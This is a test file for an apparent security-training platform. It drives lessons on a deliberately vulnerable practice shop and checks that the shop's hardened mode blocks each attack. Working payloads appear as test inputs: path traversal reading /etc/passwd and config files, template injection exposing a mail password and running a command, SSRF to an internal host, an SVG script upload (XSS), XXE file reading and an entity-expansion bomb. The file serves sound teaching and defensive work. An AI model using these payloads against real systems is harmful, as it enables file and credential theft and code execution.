import { ApiClient } from '@sentiero/client/api-client';
import { LearnerPage, signIn } from '../src/learner-page.ts';
import { findLesson } from '../src/lessons.ts';
import { openAs } from '../src/log-in.ts';
import { expect, test } from '../src/platform-fixture.ts';

test('a name leads out of the folder, and the hardened shop checks where it leads', async ({
  page,
  platform,
  school,
  learner: person,
}) => {
  await school.completeLessons(person, 1);
  const client = await ApiClient.loggedIn(platform, person);
  const lesson = await findLesson(client, 'Paths: out of the folder');
  await openAs(page, platform, person, `/lessons/${lesson.id}?page=2`);
  const learner = new LearnerPage(page, platform);
  await learner.expectStep('One level up');
  const shop = await learner.launch();
  await shop.goto(`${platform.shopUrl}recipes`);
  await shop.getByRole('link').filter({ hasText: /zopf/i }).click();
  const sheet = new URL(shop.url());
  const read = (name: string) => {
    sheet.searchParams.set('name', name);
    return shop.goto(sheet.href);
  };
  await read('../config/till.conf');
  await expect(shop.getByText('supplier_key')).toBeVisible();
  await page.bringToFront();
  await learner.expectCompleted();

  await learner.next();
  await read('../../../../../../etc/passwd');
  const passwd = await shop.getByText(/root:x:0/).innerText();
  const [account = ''] =
    passwd
      .split('\n')
      .find((line) => line.split(':')[2] === '1000')
      ?.split(':') ?? [];
  await page.bringToFront();
  await learner.sendAnswer(account);
  await learner.expectCompleted();

  await learner.next();
  await learner.expectStep('Behind the counter');
  await shop.goto(`${platform.shopUrl}workshop`);
  await shop.getByRole('button', { name: /Hardened/ }).click();
  await read('zopf.txt');
  expect((await read('../recipes-unfinished/pizokel.txt'))?.status()).toBe(403);
  await page.bringToFront();
  await learner.expectCompleted();
});

test('a card’s text calculates and shows a password, and the hardened shop prints it as it is', async ({
  page,
  platform,
  school,
  learner: person,
}) => {
  await school.completeLessons(person, 1);
  const client = await ApiClient.loggedIn(platform, person);
  const lesson = await findLesson(client, 'Templates: a card that calculates');
  await openAs(page, platform, person, `/lessons/${lesson.id}?page=2`);
  const learner = new LearnerPage(page, platform);
  await learner.expectStep('A sum on the card');
  const shop = await learner.launch();
  const write = async (text: string) => {
    await shop.goto(`${platform.shopUrl}card`);
    await shop.getByLabel('To', { exact: true }).fill('Anna');
    await shop.getByLabel('Your text').fill(text);
    await shop.getByRole('button', { name: 'Show the card' }).click();
    return shop.getByRole('status').innerText();
  };
  expect(await write('{{ 6 * 7 }} candles')).toContain('42 candles');
  await page.bringToFront();
  await learner.expectCompleted();

  await learner.next();
  expect(await write('{{ shop }}')).toContain('settings');
  expect(await write('{{ shop.settings }}')).toContain('mail_password');
  await write('{{ shop.settings.mail_password }}');
  await page.bringToFront();
  await learner.expectCompleted();

  await learner.next();
  const card = await write("{{ shop.tools.run('hostname') }}");
  await page.bringToFront();
  await learner.sendAnswer(/kassenkeller\S*/.exec(card)?.[0] ?? '');
  await learner.expectCompleted();

  await shop.goto(`${platform.shopUrl}workshop`);
  await shop.getByRole('button', { name: /Hardened/ }).click();
  expect(await write('{{ shop.settings.mail_password }}')).toContain('{{ shop.settings.mail_password }}');
});

test('a link has the server fetch a picture, and then a page inside its network', async ({
  page,
  platform,
  school,
  learner: person,
}) => {
  await school.completeLessons(person, 1);
  const client = await ApiClient.loggedIn(platform, person);
  const lesson = await findLesson(client, 'SSRF: a link that the server opens');
  await openAs(page, platform, person, `/lessons/${lesson.id}?page=2`);
  const learner = new LearnerPage(page, platform);
  await learner.expectStep('A cat for the profile');
  const { username, password } = await learner.credentials();
  const shop = await learner.launch();
  await signIn(shop, username, password);
  const fetchLink = async (link: string) => {
    await shop.goto(`${platform.shopUrl}profile/picture`);
    await shop.getByLabel('Link').fill(link);
    await shop.getByRole('button', { name: 'Fetch picture' }).click();
  };
  await fetchLink('http://pictures.example/cat.svg');
  const picture = shop.locator('main img');
  await expect
    .poll(() => picture.evaluate((image: HTMLImageElement) => image.naturalWidth))
    .toBeGreaterThan(0);
  await page.bringToFront();
  await learner.expectCompleted();

  await learner.next();
  await fetchLink('http://stock.internal/stock');
  await expect(shop.getByText('Wildflower honey')).toBeVisible();
  await page.bringToFront();
  await learner.expectCompleted();
});

test('an uploaded drawing runs its script when it is opened, and the hardened shop lets nobody open one', async ({
  page,
  platform,
  school,
  learner: person,
}) => {
  await school.completeLessons(person, 1);
  const client = await ApiClient.loggedIn(platform, person);
  const lesson = await findLesson(client, 'Uploads: a picture that is a page');
  await openAs(page, platform, person, `/lessons/${lesson.id}?page=2`);
  const learner = new LearnerPage(page, platform);
  await learner.expectStep('An honest picture');
  const { username, password } = await learner.credentials();
  const shop = await learner.launch();
  await signIn(shop, username, password);
  const upload = async (name: string, mimeType: string, content: string) => {
    await shop.goto(`${platform.shopUrl}gallery`);
    await shop.getByLabel('Picture').setInputFiles({ name, mimeType, buffer: Buffer.from(content) });
    await shop.getByRole('button', { name: 'Upload picture' }).click();
  };
  await upload('zopf.gif', 'image/gif', 'GIF89a a picture;');
  await page.bringToFront();
  await learner.expectCompleted();
  await learner.next();
  await learner.sendAnswer('Content-Type');
  await learner.expectCompleted();

  await learner.next();
  const drawing = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>';
  await upload('zopf.svg', 'image/svg+xml', drawing);
  const ran = shop.waitForEvent('dialog');
  await shop.getByRole('link', { name: 'zopf.svg' }).click({ noWaitAfter: true });
  const dialog = await ran;
  expect(dialog.message()).toBe(new URL(platform.shopUrl).hostname);
  await dialog.dismiss();
  await page.bringToFront();
  await learner.expectCompleted();

  await shop.goto(`${platform.shopUrl}workshop`);
  await shop.getByRole('button', { name: /Hardened/ }).click();
  await upload('zopf.svg', 'image/svg+xml', drawing);
  await expect(shop.getByText('There’s no picture in this file.')).toBeVisible();
  await upload('zopf.html', 'image/gif', `GIF89a${drawing}`);
  const downloaded = shop.waitForEvent('download');
  await shop
    .getByRole('link', { name: /^[\da-f]{24}\.gif$/ })
    .first()
    .click();
  expect((await downloaded).suggestedFilename()).toMatch(/\.gif$/);
});

test('a delivery note reads a file and grows to millions, and the hardened shop takes ordinary ones', async ({
  page,
  platform,
  school,
  learner: person,
}) => {
  await school.completeLessons(person, 1);
  const client = await ApiClient.loggedIn(platform, person);
  const lesson = await findLesson(client, 'XML: a delivery note that reads files');
  await openAs(page, platform, person, `/lessons/${lesson.id}?page=2`);
  const learner = new LearnerPage(page, platform);
  await learner.expectStep('A name of your own');
  const shop = await learner.launch();
  const send = async (xml?: string) => {
    await shop.goto(`${platform.shopUrl}deliveries`);
    if (xml !== undefined) await shop.getByLabel('Delivery note (XML)').fill(xml);
    await shop.getByRole('button', { name: 'Send the delivery note' }).click();
    return shop.getByRole('status').innerText();
  };
  const note = (declared: string, used: string) =>
    `<?xml version="1.0"?>\n<!DOCTYPE delivery [\n${declared}\n]>\n<delivery><item>${used}</item></delivery>`;
  expect(await send()).toContain('Mountain cheese');
  expect(await send(note('<!ENTITY dairy "Schüpbach">', '&dairy;'))).toContain('Schüpbach');
  await page.bringToFront();
  await learner.expectCompleted();

  await learner.next();
  const file = await send(note('<!ENTITY x SYSTEM "file:///srv/shop/config/bank.conf">', '&x;'));
  await page.bringToFront();
  await learner.expectCompleted();

  await learner.next();
  await learner.sendAnswer(/contract=(\S+)/.exec(file)?.[1] ?? '');
  await learner.expectCompleted();

  await learner.next();
  const names = ['b', 'c', 'd', 'e', 'f', 'g'];
  const knocks = names.map((name, n) => `<!ENTITY ${name} "${`&${names[n - 1] ?? 'a'};`.repeat(10)}">`);
  expect(await send(note(['<!ENTITY a "knock ">', ...knocks].join('\n'), '&g;'))).toContain('6000000');
  await page.bringToFront();
  await learner.expectCompleted();

  await shop.goto(`${platform.shopUrl}workshop`);
  await shop.getByRole('button', { name: /Hardened/ }).click();
  expect(await send()).toContain('Mountain cheese');
  expect(await send(note('<!ENTITY x SYSTEM "crates.txt">', '&x;'))).toContain('DOCTYPE');
});
